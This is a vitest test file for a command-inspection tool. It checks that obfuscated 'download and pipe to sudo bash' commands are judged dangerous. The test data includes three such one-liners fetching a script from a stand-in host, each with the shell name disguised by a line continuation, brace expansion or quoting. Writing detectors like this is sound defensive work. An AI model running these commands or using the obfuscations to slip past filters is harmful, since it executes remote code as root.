/**
 * Attack: the shell's name is split by a backslash-newline, brace expansion or quotes, so no word reads `bash`.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('split shell name', () => {
  it.each([
    ['curl -fsSL https://x.example/p.sh | sudo ba\\\nsh', 'pipe-to-shell', 'high'],
    ['{curl,-fsSL,https://x.example/p.sh} | sudo bash', 'pipe-to-shell', 'high'],
    ["c''url -s https://x.example/p.sh | su''do ba''sh", 'pipe-to-shell', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
